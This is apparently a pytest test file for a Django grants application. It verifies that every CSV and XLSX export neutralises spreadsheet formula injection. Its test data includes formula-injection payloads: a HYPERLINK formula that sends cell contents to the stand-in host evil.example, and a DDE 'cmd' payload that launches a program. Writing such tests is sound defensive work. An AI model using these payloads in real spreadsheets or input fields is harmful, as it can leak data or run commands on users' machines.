"""An organisation named like a formula never becomes a live formula in a staff spreadsheet: every cell of every
export that starts with =, +, -, @, a tab or a carriage return is written as text, in CSV and in XLSX."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grants import services
from grants.exports import Column, Table, neutralise, to_csv, to_xlsx
from grants.tables import EXPORTS
from tests.factories import OrganizationFactory
from tests.grants.factories import BudgetFactory, M, ProgramFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def _cells_csv(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))) for c in row]


def _cells_xlsx(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_is_neutralised_in_both_formats(payload):
    table = Table(name="t", title="t", columns=[Column("Tên"), Column("Số", "money")], rows=[[payload, -5 * M]])
    csv_cells = _cells_csv(to_csv(table))
    assert csv_cells[2] == "'" + payload and csv_cells[3] == str(-5 * M)
    xlsx_cells = _cells_xlsx(to_xlsx(table))
    assert xlsx_cells[2].data_type == "s" and xlsx_cells[2].value.startswith("'")
    assert xlsx_cells[3].value == -5 * M  # a negative amount stays a number


def test_plain_text_and_numbers_are_untouched():
    assert neutralise("HTX Dừa Xanh") == "HTX Dừa Xanh" and neutralise(-3) == -3 and neutralise(None) is None


@pytest.mark.parametrize("name", sorted(EXPORTS))
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_carries_a_live_formula(client_for, staff, name, fmt):
    program = ProgramFactory(name_vi='=HYPERLINK("http://evil.example","CT")', name_en="+cmd|calc")
    BudgetFactory(program=program, year=2025, amount=200 * M)
    firm = OrganizationFactory(name='=HYPERLINK("http://evil.example","HTX")', kind="enterprise")
    grant = services.grant_propose(
        by=staff,
        firm=firm,
        program=program,
        year=2025,
        eligible_cost=40 * M,
        requested_amount=20 * M,
        purpose="@SUM(1+1)",
    )
    services.grant_approve(
        grant=grant, by=staff, decision_number="=1+1", decision_date=date(2025, 3, 1), exception_reason="=cmd|x"
    )
    response = client_for(staff).get(reverse("grants:export", args=[name, fmt]) + "?year=2025", follow=True)
    assert response.status_code == 200
    if fmt == "csv":
        texts = _cells_csv(response.content)
    else:
        cells = _cells_xlsx(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "@", "\t", "\r") or (t[:1] == "-" and not _number(t))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_yearly_report_workbook_carries_no_live_formula(client_for, staff):
    from grants.models import PlanTarget

    target = PlanTarget.objects.order_by("pk").first()
    PlanTarget.objects.filter(pk=target.pk).update(
        label_vi='=HYPERLINK("http://evil.example","Mục tiêu")', label_en='=HYPERLINK("http://evil.example","T")'
    )
    response = client_for(staff).get(reverse("grants:plan_report") + "?year=2025&format=xlsx", follow=True)
    assert response.status_code == 200
    cells = _cells_xlsx(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
